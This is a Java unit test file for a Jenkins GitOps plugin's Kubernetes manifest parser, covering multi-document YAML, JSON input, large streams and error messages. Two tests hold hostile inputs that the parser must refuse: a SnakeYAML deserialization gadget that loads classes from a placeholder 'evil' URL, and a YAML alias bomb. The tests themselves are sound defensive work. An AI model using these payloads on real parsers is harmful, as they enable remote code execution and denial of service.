package io.jenkins.plugins.gitops.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.gitops.RenderException;
import java.util.List;
import org.junit.jupiter.api.Test;

class ManifestParserTest {

    @Test
    void multiDocumentYamlSkipsEmptyAndCommentOnlyDocuments() {
        List<RenderedObject> objs = ManifestParser.parse("""
                # leading comment
                ---
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: a, creationTimestamp: 2024-01-01T00:00:00Z}
                ---
                ---
                # only a comment
                ---
                apiVersion: apps/v1
                kind: Deployment
                metadata: {name: b, namespace: ns}
                """, "apps/x.yaml");

        assertThat(objs).extracting(o -> o.object().key().toString()).containsExactly("ConfigMap/a", "Deployment.apps/ns/b");
        assertThat(objs.get(0).source()).contains("apps/x.yaml");
        assertThat(objs.get(0).object().at("/metadata/creationTimestamp").isTextual()).as("timestamps stay strings").isTrue();
    }

    /** A stream over the parallel threshold: {@code count} ConfigMaps of some 2 KB each, 7 lines apiece. */
    private static StringBuilder large(int count) {
        StringBuilder b = new StringBuilder("# a large render\n");
        String data = "x".repeat(2000);
        for (int i = 0; i < count; i++) {
            b.append("---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm").append(i).append("\ndata:\n  k: ").append(data).append('\n');
        }
        return b;
    }

    @Test
    void aLargeStreamReadInHalvesKeepsOrderAndLineNumbers() {
        StringBuilder text = large(1000);
        assertThat(text.length()).isGreaterThan(ManifestParser.PARALLEL_MIN_CHARS);
        List<RenderedObject> objs = ManifestParser.parse(text.toString(), "big.yaml");
        assertThat(objs).hasSize(1000);
        assertThat(objs).extracting(o -> o.object().name()).startsWith("cm0", "cm1").endsWith("cm998", "cm999");
        for (int i = 0; i < objs.size(); i++) {
            assertThat(objs.get(i).object().name()).isEqualTo("cm" + i);
        }

        // document 900 (second half) is broken: its line, counted across the first half, is named
        // as a one-pass read of the same lines names it (below the threshold: comments, then that document)
        StringBuilder broken = large(1000);
        int pos = broken.indexOf("name: cm900\n") + "name: cm900\n".length();
        broken.insert(pos, "  bad: [\n");
        assertThat(brokenMessage(broken)).isEqualTo(brokenMessage(oneDocumentAt(broken, "name: cm900\n")))
                .startsWith("big.yaml:63");

        // broken in both halves: the first bad document is the one named, as in one pass
        int early = broken.indexOf("name: cm10\n") + "name: cm10\n".length();
        broken.insert(early, "  bad: [\n");
        assertThat(brokenMessage(broken)).isEqualTo(brokenMessage(oneDocumentAt(broken, "name: cm10\n"))).startsWith("big.yaml:7");
    }

    private static String brokenMessage(CharSequence text) {
        try {
            ManifestParser.parse(text.toString(), "big.yaml");
        } catch (RenderException e) {
            return e.getMessage();
        }
        throw new AssertionError("no error");
    }

    /** The document holding {@code marker}, on the line it has in {@code text}, after comment lines only. */
    private static String oneDocumentAt(StringBuilder text, String marker) {
        int at = text.indexOf(marker);
        int start = text.lastIndexOf("---\n", at);
        int end = text.indexOf("---\n", at);
        long lines = text.substring(0, start).chars().filter(c -> c == '\n').count();
        return "#\n".repeat((int) lines) + text.substring(start, end);
    }

    @Test
    void listKindsAreFlattened() {
        List<RenderedObject> objs = ManifestParser.parse("""
                apiVersion: v1
                kind: List
                items:
                - {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}
                - {apiVersion: v1, kind: ConfigMap, metadata: {name: b}}
                """, "list.yaml");
        assertThat(objs).extracting(o -> o.object().name()).containsExactly("a", "b");
    }

    @Test
    void jsonFilesAreReadAsJson() {
        List<RenderedObject> objs = ManifestParser.parse("""
                {"apiVersion": "v1", "kind": "ConfigMapList", "items": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "j"}}]}
                """, "a.json");
        assertThat(objs).extracting(o -> o.object().name()).containsExactly("j");
    }

    @Test
    void invalidYamlNamesFileAndLine() {
        assertThatThrownBy(() -> ManifestParser.parse("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n   bad: [\n", "apps/broken.yaml"))
                .isInstanceOf(RenderException.class)
                .hasMessageStartingWith("apps/broken.yaml:5:");
    }

    @Test
    void invalidJsonNamesFileAndLine() {
        assertThatThrownBy(() -> ManifestParser.parse("{\n\"kind\": \"ConfigMap\",\n\"x\": ]\n}", "a.json"))
                .isInstanceOf(RenderException.class)
                .hasMessageStartingWith("a.json:3:");
    }

    @Test
    void globalTagsAndJavaTypesAreRefused() {
        assertThatThrownBy(() -> ManifestParser.parse("""
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: a}
                data: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
                """, "evil.yaml"))
                .isInstanceOf(RenderException.class)
                .hasMessageStartingWith("evil.yaml:4:");
    }

    @Test
    void aliasBombsAreRefused() {
        StringBuilder sb = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            sb.append(c).append(": &").append(c).append(" [*").append(prev).append(",*").append(prev).append(",*").append(prev)
                    .append(",*").append(prev).append(",*").append(prev).append(",*").append(prev).append(",*").append(prev)
                    .append(",*").append(prev).append(",*").append(prev).append("]\n");
        }
        assertThatThrownBy(() -> ManifestParser.parse(sb.toString(), "bomb.yaml")).isInstanceOf(RenderException.class).hasMessageContaining("bomb.yaml");
    }

    @Test
    void documentsThatAreNotObjectsNameTheirLine() {
        assertThatThrownBy(() -> ManifestParser.parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\n- a\n- b\n", "x.yaml"))
                .hasMessage("x.yaml:5: a manifest must be a mapping, got array");
        assertThatThrownBy(() -> ManifestParser.parse("---\nmetadata: {name: a}\n", "x.yaml"))
                .hasMessage("x.yaml:2: not a Kubernetes object: object a has no kind");
    }

    @Test
    void duplicateKeysAreAnError() {
        assertThatThrownBy(() -> ManifestParser.parse("kind: A\nkind: B\napiVersion: v1\n", "dup.yaml"))
                .isInstanceOf(RenderException.class).hasMessageStartingWith("dup.yaml:");
    }
}
